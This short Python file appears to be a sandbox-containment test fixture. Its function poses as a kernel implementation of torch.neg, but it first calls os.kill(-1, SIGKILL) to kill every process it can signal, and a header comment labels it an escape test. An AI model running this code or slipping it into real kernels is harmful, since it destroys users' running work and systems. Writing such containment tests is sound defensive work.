# Escape: SIGKILL every process it may signal (kill -1): without a sandbox, every process of
# its user, or as root every process of the machine. Run only inside a PID namespace.
import os
import signal

import torch


def neg__default_kernel_impl(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return torch.neg(x)
